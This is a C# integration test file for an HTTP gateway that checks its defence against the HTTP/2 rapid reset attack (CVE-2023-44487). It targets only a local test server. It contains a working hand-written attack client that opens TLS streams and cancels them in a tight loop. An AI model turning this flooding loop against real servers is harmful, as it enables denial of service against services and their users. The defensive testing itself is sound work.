using System.Buffers.Binary;
using System.Net;
using System.Net.Security;
using System.Net.Sockets;
using System.Text;
using Portcullis.Tests.TestSupport;

namespace Portcullis.Tests.Integration;

/// <summary>
/// HTTP/2 rapid reset (CVE-2023-44487): a client opens a stream with HEADERS and cancels it at once with
/// RST_STREAM, in a loop, so the server starts request after request that never counts against the stream limit.
/// The frames are written by hand over TLS with ALPN h2, as an attack tool would.
/// </summary>
public sealed class Http2RapidResetTests
{
    /// <summary>Far more streams than any budget allows; an unprotected server would serve them all.</summary>
    private const int Streams = 50_000;

    [Fact]
    public async Task RapidReset_OneClient_ConnectionClosedAndOthersServed()
    {
        await using var origin = await TestOrigin.StartAsync("o");
        await using var gateway = await TestGateway.StartAsync(ForwardingTests.SingleRoute($"\"{origin.Url}\""));
        using var bystander = SourceBoundClient.Create(gateway, SourceBoundClient.Second, HttpVersion.Version20);
        using (var warm = await bystander.GetAsync("https://app.test/"))
        {
            Assert.Equal(HttpStatusCode.OK, warm.StatusCode);
        }

        var attack = await RapidResetAsync(gateway.HttpsPort, Streams, batch: 50, pause: TimeSpan.Zero);
        using var during = await bystander.GetAsync("https://app.test/");

        Assert.True(attack.Closed, $"the connection stayed open after {attack.StreamsSent} reset streams");
        // The client's count alone proves nothing: on a quiet machine all 50,000 streams (2 MB) fit in the socket
        // buffers before the server's close arrives. What matters is that the server stopped starting them.
        var started = gateway.Events.Count(e => e.Protocol == "HTTP/2");
        Assert.True(started < Streams, $"the gateway started {started} of {Streams} streams");
        Assert.Equal(HttpStatusCode.OK, during.StatusCode);
        Console.WriteLine($"rapid reset: closed after {attack.StreamsSent} streams sent, {started} HTTP/2 requests seen by the gateway, GOAWAY error {attack.GoAwayError?.ToString() ?? "none"}, origin saw {origin.Requests}");
    }

    [Fact]
    public async Task RapidReset_PacedUnderKestrelsDefence_ClosedByTheResetBudget()
    {
        await using var origin = await TestOrigin.StartAsync("o");
        await using var gateway = await TestGateway.StartAsync(ForwardingTests.SingleRoute($"\"{origin.Url}\"")
            .Replace("sites:", "limits: { http2_max_resets: 100 }\nsites:", StringComparison.Ordinal));
        using var bystander = SourceBoundClient.Create(gateway, SourceBoundClient.Second, HttpVersion.Version20);

        var attack = await RapidResetAsync(gateway.HttpsPort, 5_000, batch: 5, pause: TimeSpan.FromMilliseconds(2));
        using var after = await bystander.GetAsync("https://app.test/");

        Assert.True(attack.Closed, $"the connection stayed open after {attack.StreamsSent} reset streams");
        Assert.True(attack.StreamsSent < 5_000, "all streams were accepted");
        Assert.Contains(gateway.Events, e => e.Limit == Portcullis.Limits.LimitNames.Http2Resets);
        Assert.Equal(HttpStatusCode.OK, after.StatusCode);
        Console.WriteLine($"paced rapid reset, budget 100: closed after {attack.StreamsSent} streams, gateway saw {gateway.Events.Count(e => e.Protocol == "HTTP/2")} HTTP/2 requests");
    }

    [Fact]
    public async Task RapidReset_PacedWithoutTheBudget_KestrelAloneLetsItRun()
    {
        await using var origin = await TestOrigin.StartAsync("o");
        await using var gateway = await TestGateway.StartAsync(ForwardingTests.SingleRoute($"\"{origin.Url}\"")
            .Replace("sites:", "limits: { http2_max_resets: off }\nsites:", StringComparison.Ordinal));

        var attack = await RapidResetAsync(gateway.HttpsPort, 3_000, batch: 5, pause: TimeSpan.FromMilliseconds(2));

        // Why limits.http2_max_resets exists: if this starts failing, Kestrel has learnt to stop paced resets itself.
        Assert.False(attack.Closed, $"Kestrel closed the connection after {attack.StreamsSent} streams (GOAWAY {attack.GoAwayError})");
        Console.WriteLine($"paced rapid reset, no budget: {attack.StreamsSent} streams, gateway saw {gateway.Events.Count(e => e.Protocol == "HTTP/2")} HTTP/2 requests");
    }

    private sealed record AttackResult(bool Closed, int StreamsSent, uint? GoAwayError);

    /// <summary>HEADERS + RST_STREAM for <paramref name="streams"/> streams, <paramref name="batch"/> per write with <paramref name="pause"/> between writes.</summary>
    private static async Task<AttackResult> RapidResetAsync(int port, int streams, int batch, TimeSpan pause)
    {
        using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(90));
        using var socket = await SourceBoundClient.ConnectAsync(IPAddress.Loopback, port, timeout.Token);
        await using var tls = new SslStream(new NetworkStream(socket, ownsSocket: false));
        await tls.AuthenticateAsClientAsync(new SslClientAuthenticationOptions
        {
            TargetHost = "app.test",
            ApplicationProtocols = [SslApplicationProtocol.Http2],
            RemoteCertificateValidationCallback = (_, _, _, _) => true,
        }, timeout.Token);
        Assert.Equal(SslApplicationProtocol.Http2, tls.NegotiatedApplicationProtocol);

        uint? goAway = null;
        var closed = new TaskCompletionSource();
        var reader = Task.Run(async () =>
        {
            var header = new byte[9];
            try
            {
                while (true)
                {
                    await tls.ReadExactlyAsync(header, timeout.Token);
                    var length = (header[0] << 16) | (header[1] << 8) | header[2];
                    var payload = new byte[length];
                    await tls.ReadExactlyAsync(payload, timeout.Token);
                    if (header[3] == 0x7 && length >= 8)
                    {
                        goAway = BinaryPrimitives.ReadUInt32BigEndian(payload.AsSpan(4));
                    }
                }
            }
            catch (Exception ex) when (ex is IOException or EndOfStreamException or ObjectDisposedException)
            {
                closed.TrySetResult();
            }
        });

        var preface = new List<byte>(Encoding.ASCII.GetBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"));
        preface.AddRange(Frame(0x4, 0, 0, []));
        await tls.WriteAsync(preface.ToArray(), timeout.Token);
        // :method GET, :scheme https, :path / from the static table; :authority as a literal without indexing (RFC 7541 §6.2.2).
        byte[] block = [0x82, 0x87, 0x84, 0x01, 0x08, .. Encoding.ASCII.GetBytes("app.test")];
        var sent = 0;
        try
        {
            while (sent < streams && !closed.Task.IsCompleted)
            {
                var frames = new List<byte>();
                for (var i = 0; i < batch && sent < streams; i++, sent++)
                {
                    var stream = 1 + (2 * sent);
                    // HEADERS with END_STREAM | END_HEADERS, then RST_STREAM (CANCEL = 0x8).
                    frames.AddRange(Frame(0x1, 0x5, stream, block));
                    frames.AddRange(Frame(0x3, 0, stream, [0, 0, 0, 0x8]));
                }
                await tls.WriteAsync(frames.ToArray(), timeout.Token);
                if (pause > TimeSpan.Zero)
                {
                    await Task.Delay(pause, timeout.Token);
                }
            }
        }
        catch (IOException)
        {
            // The server closed the connection under us: that is the defence working.
        }
        // Whatever the server does about the last streams, it does within a few seconds.
        await Task.WhenAny(closed.Task, Task.Delay(TimeSpan.FromSeconds(5), timeout.Token));
        return new AttackResult(closed.Task.IsCompleted, sent, goAway);
    }

    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
    {
        var frame = new byte[9 + payload.Length];
        frame[0] = (byte)(payload.Length >> 16);
        frame[1] = (byte)(payload.Length >> 8);
        frame[2] = (byte)payload.Length;
        frame[3] = type;
        frame[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, 9);
        return frame;
    }
}
